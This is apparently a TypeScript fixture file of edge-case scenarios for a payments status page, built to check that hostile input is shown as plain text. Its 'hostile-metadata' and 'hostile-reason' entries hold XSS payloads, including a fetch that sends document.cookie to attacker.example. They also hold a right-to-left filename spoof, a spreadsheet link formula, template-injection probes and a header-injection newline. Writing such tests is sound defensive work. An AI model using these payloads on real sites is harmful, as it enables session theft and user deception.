/** Long, strange and hostile text, very large numbers and odd times. */

import { bankAccount, profile, wallet } from '../records/rail-endpoints.ts'
import { scenario } from '../scenario.ts'
import { day, hour, minute } from '../values/time.ts'

const ordinary = {
  from: wallet('ETHEREUM', 'extremes'),
  to: profile('payments'),
  assets: ['USDC', 'USD'],
  amount: '318.00',
  status: 'COMPLETED',
  source: { status: 'COMPLETED', at: 0.7, until: 60.9 },
  destination: { status: 'COMPLETED', at: 62.0, until: 62.5 },
  updated: 63,
} as const

const rightToLeft = '\u202e'
const zeroWidth = '\u200b'

export const extremes = {
  'forty-digit-amounts': scenario({
    id: '63504d3f-2fc1-49b4-ad42-00d17462974d',
    shows: 'Completed; amounts of 40 digits with 18 decimals, shown to the last digit.',
    ref: 'orch-forty-digits',
    created: 7 * hour,
    from: wallet('ETHEREUM', 'forty digits'),
    to: wallet('ETHEREUM', 'forty digits out'),
    assets: ['USDP', 'USDP'],
    amount: '1234567890123456789012.345678901234567890',
    status: 'COMPLETED',
    source: { status: 'COMPLETED', at: 0.8, until: 64.4 },
    destination: { status: 'COMPLETED', at: 66.0, until: 131.9, fee: '0.000000000000000001' },
    updated: 132.5,
  }),
  'nanosecond-times': scenario({
    ...ordinary,
    id: '4baa2c4d-c40f-4eea-a635-33d5f17fe664',
    shows: 'Completed; times with nanoseconds, two of them in the same microsecond.',
    ref: 'orch-nanoseconds',
    created: '2026-05-02T08:15:30.123456789Z',
    source: {
      status: 'COMPLETED',
      at: 0.7,
      until: 60.9,
      record: { created_at: '2026-05-02T08:15:30.123456790Z', updated_at: '2026-05-02T08:16:31.000000001Z' },
    },
    patch: { updated_at: '2026-05-02T08:16:33.000000999Z' },
  }),
  'other-time-zone': scenario({
    ...ordinary,
    id: 'e674b798-e07a-4a3d-b569-5f6f89d76faa',
    shows: 'Completed; times have an offset and no fraction, and are shown in UTC.',
    ref: 'orch-offset',
    created: '2026-05-31T22:30:00.000000Z',
    patch: { created_at: '2026-06-01T00:30:00+02:00', updated_at: '2026-05-31T18:31:03-04:00' },
  }),
  'future-time': scenario({
    ...ordinary,
    id: 'fc65b903-9347-4196-8215-5ab60b657c43',
    shows: 'Processing; its creation time is two days in the future, which the page flags.',
    ref: 'orch-future',
    created: -2 * day,
    status: 'PROCESSING',
    destination: { status: 'PENDING' },
  }),
  'hostile-metadata': scenario({
    ...ordinary,
    id: 'a1414a32-89e8-4e1f-9830-c3054c6c067b',
    shows: 'Completed; metadata with markup, script links and direction overrides, all of it shown as plain text.',
    ref: '"><img src=x onerror=alert(1)>',
    created: 10 * hour,
    metadata: {
      '<b>key</b>': '<script>document.title="owned"</script>',
      link: 'javascript:alert(document.cookie)',
      image: '<img src=x onerror="fetch(\'https://attacker.example/\'+document.cookie)">',
      reversed: `invoice${rightToLeft}fdp.exe`,
      [`user${zeroWidth}name`]: `ad${zeroWidth}min`,
      sheet: '=HYPERLINK("https://attacker.example","click")',
      wiki: '{code}*bold*{code}|| [link|https://attacker.example] | *',
      markdown: '](https://attacker.example) **bold** `code` <https://attacker.example>',
      template: `\${7*7} {{7*7}} <%= 7*7 %>`,
      control: 'bell\u0007 escape\u001b[31mred null\u0000 end',
      newline: 'first line\nSet-Cookie: a=b\r\nthird line',
      toString: 'not a function',
    },
  }),
  'hostile-reason': scenario({
    ...ordinary,
    id: 'dcb84e1e-da02-4db0-9c32-df10c0a8798d',
    shows:
      'Failed at the destination transfer; the reason contains markup and a direction override, quoted as plain text.',
    ref: 'orch-hostile-reason',
    created: 23 * hour,
    status: 'FAILED',
    destination: { status: 'FAILED', at: 62.0, until: 62.5 },
    reason: `</p><a href="javascript:alert(1)">Call support</a> ${rightToLeft}moc.elpmaxe${rightToLeft} {{secret}} "quoted"`,
  }),
  'hundred-metadata-keys': scenario({
    ...ordinary,
    id: '0fc3a244-6a54-4b07-b663-a245669eef7d',
    shows: 'Completed; a hundred metadata pairs.',
    ref: 'orch-hundred-keys',
    created: 24 * hour,
    metadata: Object.fromEntries(
      Array.from({ length: 100 }, (_, index) => [`field_${String(index + 1).padStart(3, '0')}`, `value ${index + 1}`]),
    ),
  }),
  'unbroken-text': scenario({
    ...ordinary,
    id: 'c0f5022c-ca59-47d1-8c08-cdad059a389e',
    shows: 'Failed; the reference, metadata and reason are very long without spaces, and still fit the page.',
    ref: `r${'0123456789abcdef'.repeat(32)}`,
    created: 27 * hour,
    status: 'FAILED',
    destination: { status: 'FAILED', at: 62.0, until: 62.5 },
    reason: `E${'R'.repeat(3000)}OR`,
    metadata: { [`k${'e'.repeat(300)}y`]: 'v', v: 'w'.repeat(5000) },
  }),
  'emoji-reference': scenario({
    ...ordinary,
    id: '0a350c2b-6a72-4204-bf20-584e1bc62329',
    shows: 'Completed; a reference with emoji, Chinese, Japanese and accents, found by exactly that text.',
    ref: '支払い-№42-👩‍👩‍👧-Ünïcode',
    created: 28 * hour,
    metadata: { 顧客: '山田太郎', note: 'Zażółć gęślą jaźń', direction: 'שלום עולם', family: '👨‍👩‍👧‍👦' },
  }),
  'zero-amount': scenario({
    ...ordinary,
    id: 'b482a1d2-917c-4d48-a607-a9f80c1f900a',
    shows: 'Completed; an amount of zero with eight decimals, kept as written.',
    ref: 'orch-zero',
    created: 46 * hour,
    amount: '0.00000000',
    to: bankAccount('zero'),
    updated: 2 * minute,
  }),
}
